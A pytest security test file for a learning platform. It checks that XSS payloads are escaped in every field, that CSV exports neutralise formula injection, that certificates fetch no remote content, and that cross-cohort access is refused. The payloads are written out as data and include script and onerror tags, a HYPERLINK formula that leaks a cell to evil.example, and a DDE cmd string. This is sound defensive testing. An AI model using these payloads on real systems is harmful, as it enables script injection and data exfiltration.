"""What an attacker types comes back harmless.

- Script payloads in every free-text field — names (registration, profile, roster cells,
  certificate corrections), assignment answers, trainer feedback (Markdown), cohort names and
  territories, session places and notes, announcements, certificate reasons — are shown as text
  (escaped) on every page that shows them, or sanitised where the field is Markdown.
- The progress export neutralises every cell a spreadsheet would run as a formula.
- A learner whose name is markup gets a certificate that prints that text and fetches nothing.
- An object id of another cohort in a trainer's URL (or form) is refused.

The other abuse checks live elsewhere: every URL rule × anonymous / learner / other learner /
trainer / other trainer / admin is in ``tests/test_access_matrix.py`` (it fails on a rule without
an entry); CSRF on every POST rule, login throttling, off-site ``next=`` redirects, security
headers and production cookies are in ``tests/lms/test_security.py``.
"""

from __future__ import annotations

import csv
import io
import threading
from datetime import UTC, datetime
from html.parser import HTMLParser
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from markupsafe import escape
from pypdf import PdfReader
from sqlalchemy import select

from certificates.models import Certificate
from curriculum.db import db
from lms.cohorts import invitations
from lms.cohorts.models import Cohort, RosterImport
from lms.cohorts.queries import pending_invitations
from lms.learning import operations as learning
from lms.learning.models import Enrolment, Submission
from lms.messages.models import Announcement
from lms.sessions.models import Attendance, CohortSession
from lms.users.models import User
from tests.clients import IsolatedClient
from tests.conftest import PASSWORD

PAYLOAD = '<script>alert(1)</script>"><img src=x onerror=alert(1)>'
MARKDOWN_PAYLOAD = (
    "**Bien vu** <script>alert(1)</script>\n\n"
    '"><img src=x onerror=alert(1)>\n\n'
    '[lien](javascript:alert(1)) <a href="javascript:alert(2)" onclick="alert(3)">x</a>\n\n'
    '<iframe src="https://evil.example/"></iframe><svg onload="alert(4)"></svg>'
)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


def probe(label: str) -> str:
    """A text that says which field it was typed in, then the payload."""
    return f"{label} {PAYLOAD}"


class ActiveMarkup(HTMLParser):
    """Everything in a page that would run script or load a foreign frame."""

    def __init__(self, html: str):
        super().__init__()
        self.found: list[str] = []
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        values = dict(attrs)
        if tag == "script" and not (values.get("src") or "").startswith("/lms-static/"):
            self.found.append(f"<script {values}>")
        if tag in ("iframe", "object", "embed") or (tag == "img" and values.get("src") == "x"):
            self.found.append(f"<{tag} {values}>")
        for name, value in attrs:
            if name.startswith("on"):
                self.found.append(f"<{tag} {name}=...>")
            if (
                name in ("href", "src", "action", "formaction")
                and "javascript:" in (value or "").replace(" ", "").lower()
            ):
                self.found.append(f"<{tag} {name}={value}>")


def assert_harmless(html: str) -> None:
    assert ActiveMarkup(html).found == []


def assert_shown_as_text(html: str, *texts: str) -> None:
    """Each text is on the page, escaped, and nothing on the page can run."""
    for text in texts:
        assert str(escape(text)) in html, f"{text!r} is not shown (escaped) on the page"
    assert_harmless(html)


# -- the people and places ----------------------------------------------------------------------


def client_of(app, user=None):
    client = app.test_client()
    client.environ_base["HTTP_ACCEPT_LANGUAGE"] = "fr"
    if user is not None:
        with client.session_transaction() as session:
            session["_user_id"] = user.get_id()
            session["_fresh"] = True
    return client


def page(client, url: str) -> str:
    response = client.get(url)
    assert response.status_code == 200, (url, response.status_code)
    return response.get_data(as_text=True)


def posted(client, url: str, data: dict, status: int = 302, **options):
    response = client.post(url, data=data, **options)
    body = response.get_data(as_text=True)[:2000]
    assert response.status_code == status, (url, response.status_code, body)
    return response


class School:
    """A course, its trainer's cohort, an administrator, and their logged-in browsers."""

    def __init__(self, app, make_user, make_course):
        self.course = make_course(slug="civics", sequential=False)
        self.trainer = make_user(
            email="youssef@example.org", name="Youssef Amrani", roles=("trainer",)
        )
        self.admin = make_user(email="nadia@example.org", name="Nadia El Amrani", roles=("admin",))
        self.cohort = Cohort(course_id=self.course.id, name="Cohorte de Tissa", territory="Tissa",
                             join_code="TSS2026K", trainers=[self.trainer])  # fmt: skip
        db.session.add(self.cohort)
        db.session.commit()
        self.as_trainer = client_of(app, self.trainer)
        self.as_admin = client_of(app, self.admin)

    def lesson(self, slug: str):
        lessons = (lesson for module in self.course.modules for lesson in module.lessons)
        return next(lesson for lesson in lessons if lesson.slug == slug)

    def lesson_url(self, slug: str) -> str:
        lesson = self.lesson(slug)
        return f"/courses/{self.course.slug}/{lesson.module.slug}/{lesson.slug}"

    def session(self, cohort: Cohort | None = None) -> CohortSession:
        session = CohortSession(cohort_id=(cohort or self.cohort).id, lesson_id=self.lesson("meeting").id,
                                starts_at=datetime(2026, 12, 12, 9, tzinfo=UTC), place="Dar Chabab")  # fmt: skip
        db.session.add(session)
        db.session.commit()
        return session


@pytest.fixture
def school(app, make_user, make_course) -> School:
    app.test_client_class = IsolatedClient
    return School(app, make_user, make_course)


def register(app, name: str, email: str):
    """A visitor creates an account with the form (and is welcomed by name)."""
    client = client_of(app)
    form = {"name": name, "email": email, "password": PASSWORD, "confirm": PASSWORD, "locale": "fr"}
    response = posted(client, "/register", form)
    assert_shown_as_text(page(client, response.headers["Location"]), name)
    return client


def join(client, school: School) -> Enrolment:
    """The logged-in ``client`` joins the school's cohort with its code."""
    form = {"code": school.cohort.join_code}
    response = posted(client, "/join", form, follow_redirects=True, status=200)
    assert_shown_as_text(response.get_data(as_text=True), school.cohort.name)
    return db.session.scalar(select(Enrolment).order_by(Enrolment.id.desc()))


def issue_by_hand(school: School, email: str, reason: str = "Présentiel") -> Certificate:
    form = {"email": email, "course": str(school.course.id), "force": "y", "reason": reason}
    posted(school.as_admin, "/admin/certificates/issue", form)
    return db.session.scalar(select(Certificate).order_by(Certificate.id.desc()))


# -- escaped in HTML ----------------------------------------------------------------------------


def test_names_typed_at_registration_and_in_the_profile_are_shown_as_text(app, school):
    learner = register(app, probe("Registered"), "salma@example.org")
    assert_shown_as_text(page(learner, "/account"), probe("Registered"))
    posted(learner, "/account", {"name": probe("Profile"), "locale": "fr"})
    name = probe("Profile")
    enrolment = join(learner, school)
    posted(learner, school.lesson_url("field-work") + "/submission", {"text": "Mon diagnostic"})
    submission = db.session.scalar(select(Submission))
    session = school.session()
    certificate = issue_by_hand(school, "salma@example.org")
    cohort = f"/cohorts/{school.cohort.id}"
    for url in [
        cohort,
        f"{cohort}/learners/{enrolment.id}",
        f"{cohort}/sessions/{session.id}/attendance",
        "/reviews",
        f"/reviews/{submission.id}",
    ]:
        assert_shown_as_text(page(school.as_trainer, url), name)
    user = db.session.scalar(select(User).filter_by(email_key="salma@example.org"))
    for url in [
        "/admin/users?q=salma",
        f"/admin/users/{user.id}",
        "/admin/certificates",
        f"/admin/certificates/{certificate.serial}",
    ]:
        assert_shown_as_text(page(school.as_admin, url), name)
    assert_shown_as_text(page(learner, "/account"), name)
    assert_shown_as_text(page(client_of(app), f"/verify/{certificate.serial}"), name)  # public


def test_an_answer_is_shown_as_text_and_markdown_feedback_is_sanitised(app, school, make_user):
    learner = make_user(email="salma@example.org")
    learning.enrol(learner, school.course, school.cohort)
    db.session.commit()
    as_learner = client_of(app, learner)
    lesson = school.lesson_url("field-work")
    posted(as_learner, lesson + "/submission", {"text": probe("Answer")})
    submission = db.session.scalar(select(Submission))
    assert_shown_as_text(page(school.as_trainer, f"/reviews/{submission.id}"), probe("Answer"))
    assert_shown_as_text(page(as_learner, lesson), probe("Answer"))

    posted(
        school.as_trainer,
        f"/reviews/{submission.id}",
        {"revise": "1", "feedback": MARKDOWN_PAYLOAD},
    )
    for html in (page(as_learner, lesson), page(school.as_trainer, f"/reviews/{submission.id}")):
        assert "<strong>Bien vu</strong>" in html  # the Markdown is rendered...
        assert_harmless(html)  # ...and nothing in it can run (raw HTML is shown as text)
    assert_harmless(page(as_learner, "/notifications"))


def test_cohort_names_territories_and_session_places_are_shown_as_text(app, school, make_user):
    form = {
        "course": school.course.id,
        "name": probe("Cohort"),
        "province": probe("Province")[:100],
        "commune": probe("Commune")[:100],
        "trainers": [school.trainer.id],
    }
    posted(school.as_trainer, "/cohorts/new", form)
    cohort = db.session.scalar(select(Cohort).order_by(Cohort.id.desc()))
    learner = make_user(email="salma@example.org")
    as_learner = client_of(app, learner)
    posted(as_learner, "/join", {"code": cohort.join_code})
    url = f"/cohorts/{cohort.id}"
    sessions = {
        "lesson": school.lesson("meeting").id,
        "day": "2026-12-12",
        "time": "09:30",
        "place": probe("Place"),
        "notes": probe("Notes"),
    }
    posted(school.as_trainer, url + "/sessions", sessions)
    session = db.session.scalar(select(CohortSession).filter_by(cohort_id=cohort.id))
    posted(as_learner, school.lesson_url("field-work") + "/submission", {"text": "Mon diagnostic"})
    enrolment = db.session.scalar(select(Enrolment).filter_by(user_id=learner.id))

    territory = cohort.territory  # "commune, province", as typed
    assert PAYLOAD in territory
    for path in [
        "/cohorts",
        url,
        f"{url}/edit",
        f"{url}/poster",
        f"{url}/roster",
        f"{url}/announcements",
        "/reviews",
    ]:
        assert_shown_as_text(page(school.as_trainer, path), probe("Cohort"))
    assert_shown_as_text(page(school.as_trainer, "/cohorts"), territory)
    assert_shown_as_text(page(school.as_trainer, url), territory)
    assert_shown_as_text(page(school.as_trainer, f"{url}/sessions"), probe("Place"), probe("Notes"))
    assert_shown_as_text(
        page(school.as_trainer, f"{url}/sessions/{session.id}/attendance"),
        probe("Cohort"),
        probe("Place"),
    )
    assert_shown_as_text(
        page(school.as_trainer, f"{url}/learners/{enrolment.id}"), probe("Cohort"), probe("Place")
    )
    assert_shown_as_text(page(as_learner, school.lesson_url("meeting")), probe("Place"))
    assert_harmless(page(as_learner, "/my"))
    assert_shown_as_text(
        page(school.as_admin, "/admin/certificates/bulk"), probe("Cohort")
    )  # in its menus


def test_announcements_are_shown_as_text_and_their_markdown_sanitised(app, school, make_user):
    learner = make_user(email="salma@example.org")
    learning.enrol(learner, school.course, school.cohort)
    db.session.commit()
    url = f"/cohorts/{school.cohort.id}/announcements"
    posted(school.as_trainer, url, {"title": probe("Title"), "body": MARKDOWN_PAYLOAD})
    as_learner = client_of(app, learner)
    notifications = page(as_learner, "/notifications")
    assert_shown_as_text(notifications, probe("Title"))
    item = db.session.scalar(select(Announcement))
    assert f'href="/announcements/{item.id}"' in notifications
    announcement = page(as_learner, f"/announcements/{item.id}")
    assert_shown_as_text(announcement, probe("Title"))
    assert "<strong>Bien vu</strong>" in announcement
    assert_shown_as_text(page(school.as_trainer, url), probe("Title"))


def roster_csv(rows: list[list[str]]) -> bytes:
    out = io.StringIO()
    csv.writer(out, delimiter=";").writerows([["nom", "courriel"], *rows])
    return out.getvalue().encode("utf-8")


def test_roster_cells_are_shown_as_text_in_the_preview_and_after_the_import(school):
    bad_email = '"><img src=x onerror=alert(1)>@example'
    rows = [[probe("Roster"), "salma@example.org"], ["Omar", bad_email], [PAYLOAD, PAYLOAD]]
    url = f"/cohorts/{school.cohort.id}/roster"
    response = posted(
        school.as_trainer,
        url,
        {"file": (io.BytesIO(roster_csv(rows)), probe("liste") + ".csv")},
        content_type="multipart/form-data",
    )
    preview = page(school.as_trainer, response.headers["Location"])
    # e-mail cells are read without their spaces; they come back in the row and its error message
    assert_shown_as_text(preview, probe("Roster"), PAYLOAD, bad_email.replace(" ", ""))
    # The trainer fixes the file (a roster with a bad row is never imported) and confirms.
    response = posted(
        school.as_trainer,
        url,
        {"file": (io.BytesIO(roster_csv(rows[:1])), probe("liste") + ".csv")},
        content_type="multipart/form-data",
    )
    imported = db.session.scalar(select(RosterImport).order_by(RosterImport.id.desc()))
    posted(school.as_trainer, f"{url}/{imported.id}/confirm", {"digest": imported.digest})
    assert_shown_as_text(page(school.as_trainer, url), probe("Roster"))  # invited, not joined yet
    assert_shown_as_text(page(school.as_admin, "/admin/outbox"), probe("Roster"))  # the invitation
    for invitation in pending_invitations(school.cohort):  # she accepts
        invitations.accept(invitation.user, invitation)
    db.session.commit()
    assert_shown_as_text(page(school.as_trainer, f"/cohorts/{school.cohort.id}"), probe("Roster"))


def test_certificate_reasons_and_corrected_names_are_shown_as_text(app, school, make_user):
    learner = make_user(email="salma@example.org", name="Salma Benali")
    learning.enrol(learner, school.course, school.cohort)
    db.session.commit()
    certificate = issue_by_hand(school, learner.email, reason=probe("Issued"))
    detail = f"/admin/certificates/{certificate.serial}"
    assert_shown_as_text(page(school.as_admin, detail), probe("Issued"))
    posted(
        school.as_admin,
        detail + "/correct",
        {"name": probe("Corrected"), "reason": probe("Correction")},
    )
    corrected = db.session.scalar(select(Certificate).order_by(Certificate.id.desc()))
    posted(
        school.as_admin,
        f"/admin/certificates/{corrected.serial}/revoke",
        {"reason": probe("Revoked")},
    )
    assert_shown_as_text(page(school.as_admin, detail), probe("Correction"))
    assert_shown_as_text(
        page(school.as_admin, f"/admin/certificates/{corrected.serial}"),
        probe("Corrected"),
        probe("Revoked"),
    )
    public = page(client_of(app), f"/verify/{corrected.serial}")  # anyone can read this page
    assert_shown_as_text(public, probe("Corrected"), probe("Revoked"))
    assert_shown_as_text(page(client_of(app, learner), "/certificates"), school.course.titles["fr"])


# -- no formula in CSV exports ------------------------------------------------------------------


def test_the_progress_export_neutralises_formulas_typed_in_names_e_mails_and_rosters(app, school):
    people = [
        ('=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez")', "=1+1@example.org"),
        ("+212 600 000 000", "+33@example.org"),
        ("-2+3", "-x@example.org"),
        ("@SUM(A1:A9)", "salma@example.org"),
        ("＝SUM(A1:A9)", "＋fullwidth@example.org"),
    ]
    for name, email in people:
        join(register(app, name, email), school)
    # A leading tab or carriage return is trimmed on the way in; the formula behind it is not.
    roster = roster_csv(
        [
            ["=cmd|' /C calc'!A0", "omar@example.org"],
            ["\t=1+1", "tab@example.org"],
            ["\r-3", "cr@example.org"],
        ]
    )
    url = f"/cohorts/{school.cohort.id}/roster"
    response = posted(
        school.as_trainer,
        url,
        {"file": (io.BytesIO(roster), "liste.csv")},
        content_type="multipart/form-data",
    )
    imported = db.session.scalar(select(RosterImport))
    assert response.headers["Location"].endswith(f"/roster/{imported.id}")
    posted(school.as_trainer, f"{url}/{imported.id}/confirm", {"digest": imported.digest})
    for invitation in pending_invitations(school.cohort):  # each accepts (by choosing a password)
        invitations.accept(invitation.user, invitation)
    db.session.commit()

    for language, delimiter in (("fr", ";"), ("en", ",")):
        export = school.as_trainer.get(
            f"/cohorts/{school.cohort.id}/progress.csv", headers={"Accept-Language": language}
        )
        rows = list(
            csv.reader(io.StringIO(export.get_data().decode("utf-8-sig")), delimiter=delimiter)
        )
        cells = [cell for row in rows for cell in row]
        assert [cell for cell in cells if cell.startswith(FORMULA_STARTS)] == []
        learners = {row[1]: row[0] for row in rows[1:]}
        assert learners["'=1+1@example.org"] == "'" + people[0][0]
        assert learners["'+33@example.org"] == "'+212 600 000 000"
        assert learners["'-x@example.org"] == "'-2+3"
        assert learners["salma@example.org"] == "'@SUM(A1:A9)"
        assert learners["'＋fullwidth@example.org"] == "'＝SUM(A1:A9)"
        assert learners["omar@example.org"] == "'=cmd|' /C calc'!A0"
        assert learners["tab@example.org"] == "'=1+1" and learners["cr@example.org"] == "'-3"


# -- the certificate of a learner named with markup ---------------------------------------------


@pytest.fixture
def trap():
    """A web server on this machine that records every request it receives."""
    hits: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self):  # noqa: N802 - the standard library's name
            hits.append(self.path)
            self.send_response(404)
            self.end_headers()

        def log_message(self, *args):
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_port}", hits
    server.shutdown()
    server.server_close()
    thread.join(timeout=5)


def test_a_certificate_prints_a_name_made_of_markup_as_text_and_fetches_nothing(app, school, trap):
    base, hits = trap
    name = f'<img src="{base}/img.png"><link rel=stylesheet href={base}/s.css><script>alert(1)</script>'
    learner = register(app, name, "salma@example.org")
    join(learner, school)
    certificate = issue_by_hand(school, "salma@example.org")
    response = learner.get(f"/certificates/{certificate.serial}.pdf")
    assert response.status_code == 200 and response.mimetype == "application/pdf"
    text = PdfReader(io.BytesIO(response.get_data())).pages[0].extract_text()
    assert "".join(name.split()) in "".join(text.split())  # printed as it was typed
    assert hits == []  # and nothing was fetched
    assert_shown_as_text(page(client_of(app), f"/verify/{certificate.serial}"), name)


# -- another cohort's objects through a trainer's own cohort ------------------------------------


@pytest.fixture
def two_cohorts(app, school, make_user):
    """Cohort A (the school's: its trainer's) and cohort B of another trainer, each with a
    learner, a session and a roster waiting for confirmation."""
    other_trainer = make_user(email="karim@example.org", roles=("trainer",))
    cohort_b = Cohort(
        course_id=school.course.id,
        name="Cohorte de Taza",
        join_code="TZA2026K",
        trainers=[other_trainer],
    )
    db.session.add(cohort_b)
    db.session.commit()
    world = {"a": school.cohort, "b": cohort_b}
    for key, cohort in (("a", school.cohort), ("b", cohort_b)):
        learner = make_user(email=f"learner-{key}@example.org")
        world[f"enrolment_{key}"] = learning.enrol(learner, school.course, cohort)
        world[f"roster_{key}"] = RosterImport(
            cohort_id=cohort.id,
            created_by_id=cohort.trainers[0].id,
            rows=[
                {
                    "row": 2,
                    "name": "Nouvelle",
                    "email": f"new-{key}@example.org",
                    "language": None,
                    "error": None,
                }
            ],
        )
        db.session.add(world[f"roster_{key}"])
        db.session.commit()
        world[f"session_{key}"] = school.session(cohort)
    return world


def _ids(world):
    return {key: value.id for key, value in world.items()}


MIXED = [
    ("GET", "/cohorts/{a}/learners/{enrolment_b}", None, 404),
    ("POST", "/cohorts/{a}/learners/{enrolment_b}/move", {"target": "{a}"}, 404),
    ("POST", "/cohorts/{a}/learners/{enrolment_a}/move", {"target": "{b}"}, 400),
    ("GET", "/cohorts/{a}/sessions/{session_b}/attendance", None, 404),
    ("POST", "/cohorts/{a}/sessions/{session_b}/attendance", {"a-{enrolment_b}": "present"}, 404),
    ("POST", "/cohorts/{a}/sessions/{session_a}/attendance", {"a-{enrolment_b}": "present"}, 400),
    ("GET", "/cohorts/{a}/roster/{roster_b}", None, 404),
    ("POST", "/cohorts/{a}/roster/{roster_b}/confirm", {"digest": "x"}, 404),
]


@pytest.mark.parametrize(
    ("method", "url", "data", "status"), MIXED, ids=[f"{m} {u}" for m, u, _, _ in MIXED]
)
def test_a_trainer_cannot_reach_another_cohorts_objects_through_their_own(
    school, two_cohorts, method, url, data, status
):
    ids = _ids(two_cohorts)
    form = {key.format(**ids): value.format(**ids) for key, value in (data or {}).items()}
    response = school.as_trainer.open(url.format(**ids), method=method, data=form)
    assert response.status_code == status
    db.session.expire_all()
    assert db.session.scalar(select(Attendance)) is None  # nothing was recorded
    assert db.session.get(Enrolment, ids["enrolment_a"]).cohort_id == ids["a"]
    assert db.session.get(Enrolment, ids["enrolment_b"]).cohort_id == ids["b"]
    assert db.session.get(RosterImport, ids["roster_b"]).applied_at is None
